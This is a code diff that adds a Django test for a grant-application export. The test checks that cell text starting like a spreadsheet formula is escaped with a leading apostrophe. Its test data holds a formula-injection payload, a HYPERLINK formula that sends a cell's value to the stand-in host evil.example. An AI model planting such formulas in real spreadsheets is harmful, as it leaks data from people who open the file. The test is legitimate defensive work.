@@ -119,3 +119,13 @@ def test_export_query_count_does_not_grow_with_rows(client, call, people, funder
     with django_assert_max_num_queries(15):
         rows = export(client, call, every)
     assert len(rows) == 41
+
+
+def test_text_starting_like_a_formula_is_made_inert(client, call, people, funders):
+    state, _agglo = funders
+    org = make_organisation("@Association piégée")
+    make_application(call, org, title='=HYPERLINK("http://evil.example/?"&A2,"Cliquez")', codes=(ALES,),
+                     requested="100", requests=[(state, "100")])
+    client.force_login(people["reviewer"])
+    rows = export(client, call, "colonnes=organisation&colonnes=title&colonnes=requested_total")
+    assert rows[1] == ["'@Association piégée", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")", "100,00"]
